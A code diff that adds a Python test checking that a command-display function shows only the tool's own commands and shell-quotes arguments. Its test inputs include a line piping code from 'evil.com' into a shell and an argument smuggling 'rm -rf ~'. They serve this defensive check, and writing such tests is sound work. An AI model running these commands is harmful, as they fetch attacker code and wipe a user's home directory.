@@ -52,6 +52,14 @@ def test_help_says_default_and_origin() -> None:
     assert all(spec.help for spec in field_specs(RecoverConfig))
 
 
+def test_a_run_that_others_made_shows_no_command_but_ours(monkeypatch) -> None:
+    drawn: list[str] = []
+    monkeypatch.setattr(controls.st, "code", lambda text, **_look: drawn.append(text))
+    for words in (("bash", "-c", "curl evil.com | sh"), (), ("delt", "resume", "a; rm -rf ~")):
+        controls.command(words)
+    assert drawn == ["delt resume 'a; rm -rf ~'"]
+
+
 def test_a_draft_keeps_what_was_valid() -> None:
     draft = Session()
     draft.change("recover", ipc=3)
